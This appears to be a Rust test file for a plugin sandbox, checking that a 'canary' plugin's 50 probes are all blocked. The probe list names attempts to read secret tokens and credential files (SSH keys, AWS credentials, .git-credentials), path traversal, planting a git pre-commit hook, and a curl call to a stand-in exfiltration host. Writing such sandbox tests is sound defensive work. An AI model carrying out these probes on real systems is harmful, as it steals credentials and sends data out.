//! The canary: what a plugin without grants tries in vain, each probe by its name.

use super::stage::{Stage, give_data, rust, with};

portcullis_testkit::tests![
    every_probe_is_blocked_without_grants,
    every_probe_is_blocked_with_files_of_its_own_and_the_project,
];

const PROBES: [&str; 50] = [
    "env GITHUB_TOKEN",
    "env GH_TOKEN",
    "env OPENAI_API_KEY",
    "env ANTHROPIC_API_KEY",
    "env AWS_SECRET_ACCESS_KEY",
    "env AWS_ACCESS_KEY_ID",
    "env DATABASE_URL",
    "env FLEDGE_GITHUB_TOKEN",
    "env NPM_TOKEN",
    "env DOCKER_PASSWORD",
    "env HOME",
    "env PATH",
    "env USER",
    "env SHELL",
    "read /etc/hosts",
    "read /etc/passwd",
    "read /tmp",
    "read /root/.ssh/id_ed25519",
    "read /root/.ssh/id_rsa",
    "read /root/.aws/credentials",
    "read /root/.config/gh/hosts.yml",
    "read /root/.git-credentials",
    "read /root/.netrc",
    "read /root/.npmrc",
    "read /root/.kube/config",
    "read /root/.docker/config.json",
    "read /root/.zsh_history",
    "read /root/.bash_history",
    "read ../../../etc/hosts",
    "read ../../../etc/passwd",
    "read ../../../../root/.ssh/id_ed25519",
    "read ../../.ssh/id_ed25519",
    "list /",
    "list /tmp",
    "list /home",
    "list /Users",
    "list /root",
    "list /etc",
    "write /tmp/canary-wasm-test",
    "write canary-wasm-test",
    "write .git/hooks/pre-commit",
    "connect 8.8.8.8:53",
    "connect 1.1.1.1:443",
    "run echo",
    "run curl https://evil.example.com/exfil",
    "run crontab -l",
    "run cat /etc/passwd",
    "run pbpaste",
    "run ps aux",
    "run whoami",
];

fn every_probe_is_blocked_without_grants() {
    let Some(bytes) = rust("fledge-canary") else {
        return;
    };
    let ran = Stage::new().run(bytes, with(|_| {}), &[]);
    all_blocked(&ran.stdout, ran.code());
}

fn every_probe_is_blocked_with_files_of_its_own_and_the_project() {
    let Some(bytes) = rust("fledge-canary") else {
        return;
    };
    let stage = Stage::new();
    let grants = with(|grants| {
        stage.give_project(grants);
        give_data(grants);
        grants.env = vec!["*".to_owned(), "HOME".to_owned(), "PATH".to_owned()];
    });
    let ran = stage.run(bytes, grants, &[]);
    all_blocked(&ran.stdout, ran.code());
}

fn all_blocked(stdout: &str, code: i32) {
    let lines: Vec<_> = stdout.lines().collect();
    for (probe, line) in PROBES.iter().zip(&lines) {
        assert_eq!(*line, format!("BLOCKED {probe}"));
    }
    assert_eq!(lines[PROBES.len()..], ["0 variables in all"]);
    assert_eq!(code, 0);
}
